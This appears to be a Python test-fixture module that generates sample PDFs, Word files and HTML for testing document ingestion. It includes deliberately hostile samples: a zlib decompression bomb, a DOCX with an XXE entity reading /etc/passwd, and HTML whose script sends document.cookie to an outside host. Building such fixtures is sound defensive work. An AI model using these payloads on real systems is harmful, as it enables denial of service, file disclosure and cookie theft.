"""An organisation's documents of each kind, made here for the tests (nothing downloaded), hostile ones included."""
from __future__ import annotations

import io
import zipfile
import zlib
from typing import List


def _pdf(objects: List[bytes]) -> bytes:
    """A PDF from its objects (the first is the catalogue), with a cross-reference table pypdf reads."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for n, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _stream(content: bytes, compress: bool = False) -> bytes:
    data = zlib.compress(content, 9) if compress else content
    return b"<< /Length %d%s >>\nstream\n" % (len(data), b" /Filter /FlateDecode" if compress else b"") + data + b"\nendstream"


def pdf(pages: List[List[str]]) -> bytes:
    """A text PDF: each page its lines, in Helvetica."""
    count = len(pages)
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(count)).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    font = 3 + 2 * count
    for i, lines in enumerate(pages):
        shown = b" ".join(b"(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1") + b") Tj T*"
                          for line in lines)
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + 2 * i, font))
        objects.append(_stream(b"BT /F1 11 Tf 14 TL 72 720 Td " + shown + b" ET"))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _pdf(objects)


def scanned_pdf() -> bytes:
    """A page that holds a picture and no text, as a scanner makes it."""
    image = _stream(b"\xff" * 64)[:-len(b"endstream")].replace(b"<< ", b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 "
                                                                     b"/ColorSpace /DeviceGray /BitsPerComponent 8 ", 1)
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>",
                 _stream(b"q 100 0 0 100 72 600 cm /Im1 Do Q"), image + b"endstream"])


def pdf_bomb(megabytes: int = 500) -> bytes:
    """A page whose content stream is a few hundred kilobytes packed and `megabytes` unpacked."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"BT /F1 11 Tf 72 720 Td (bomb) Tj ET ") + b"".join(
        packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
                 stream, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"])


def docx(paragraphs: List[tuple]) -> bytes:
    """A Word document: (style, text) pairs, a style of "Heading 1" and the like making a section."""
    import docx as python_docx

    document = python_docx.Document()
    for style, text in paragraphs:
        document.add_paragraph(text, style=style)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_with_external_entity(target: str = "file:///etc/passwd") -> bytes:
    """A Word document whose main part declares an external entity and uses it in a paragraph."""
    source = zipfile.ZipFile(io.BytesIO(docx([(None, "PLACEHOLDER")])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"?>", f'?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{target}">]>'.encode(), 1)
                data = data.replace(b"PLACEHOLDER", b"&xxe;")
            made.writestr(item, data)
    return out.getvalue()


HTML_WITH_SCRIPTS = (b"<!doctype html><html><head><title>Ward rules</title><script>document.write('stolen')</script>"
                     b"<style>p { color: red }</style></head><body><h1>Ward training rules</h1>"
                     b"<p onclick=\"alert(1)\">All ward staff need Level 2 SEND training.</p><iframe src=\"http://example.com\"></iframe>"
                     b"<script>fetch('http://example.com/?c=' + document.cookie)</script><ul><li>Book on the Learning Hub</li></ul>"
                     b"</body></html>")
